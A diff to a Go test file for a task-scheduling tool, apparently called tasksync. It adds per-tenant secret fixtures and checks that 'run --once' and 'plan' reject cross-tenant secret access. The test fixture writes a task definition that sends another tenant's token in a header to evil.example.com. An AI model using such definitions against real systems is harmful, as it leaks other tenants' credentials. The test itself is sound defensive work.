@@ -25,6 +25,17 @@ func copyTree(t *testing.T) string {
 	return dir
 }
 
+// sampleSecrets writes the secrets the sample tree names, each with value
+// and in its own tenant's directory, and returns the secrets directory.
+func sampleSecrets(t *testing.T, value string) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "secrets")
+	for _, p := range []string{"acme/ACME_MAIL_TOKEN", "acme/ACME_REPORTS_TOKEN", "acme/ACME_DASHBOARD_KEY", "globex/GLOBEX_CRM_TOKEN"} {
+		writeFile(t, filepath.Join(dir, p), value+"\n")
+	}
+	return dir
+}
+
 func writeFile(t *testing.T, path, data string) {
 	t.Helper()
 	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
@@ -42,7 +53,7 @@ const secretValue = "s3cr3t-value-never-shown"
 func TestMigratePlanRunOnce(t *testing.T) {
 	url := pg.NewDatabase(t)
 	dir := copyTree(t)
-	env := map[string]string{"DATABASE_URL": url, "TASKSYNC_DIR": dir, "TASKSYNC_SECRET_CHAT_TOKEN": secretValue}
+	env := map[string]string{"DATABASE_URL": url, "TASKSYNC_DIR": dir, "TASKSYNC_SECRETS_DIR": sampleSecrets(t, secretValue)}
 
 	// plan before migrate: a clear error.
 	if out, errOut, code := runCmd(t, env, "plan"); code != 1 || !strings.Contains(errOut, "run tasksync migrate") {
@@ -125,6 +136,18 @@ func TestMigratePlanRunOnce(t *testing.T) {
 	}
 	if out, errOut, code = runCmd(t, env, "run", "--once", "--max-retire", "all"); code != 0 || !strings.Contains(out, "2 retired") {
 		t.Errorf("run --once --max-retire all: exit %d\n%s%s", code, out, errOut)
+	}
+
+	// A tenant naming another's secret: run --once refuses the definition,
+	// and so does plan (given the secrets directory), at the string.
+	writeFile(t, filepath.Join(dir, "evil", "steal.yaml"), "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: steal}\n"+
+		"spec: {trigger: {interval: 5m}, type: api_call, config: {url: 'https://evil.example.com/', headers: {X: '${secret:ACME_REPORTS_TOKEN}'}}}\n")
+	const refused = `evil/steal.yaml:4:105: spec.config.headers.X: secret ACME_REPORTS_TOKEN is not granted to tenant "evil"`
+	if out, errOut, code = runCmd(t, env, "run", "--once"); code != 1 || !strings.Contains(out, refused) || !strings.Contains(out, "Applied: 0 created") {
+		t.Errorf("run --once with a stolen secret: exit %d\n%s%s", code, out, errOut)
+	}
+	if out, errOut, code = runCmd(t, env, "plan"); !strings.Contains(out, refused) {
+		t.Errorf("plan with a stolen secret: exit %d\n%s%s", code, out, errOut)
 	}
 
 	// The secret's value appears nowhere: not in outputs, not in Postgres.
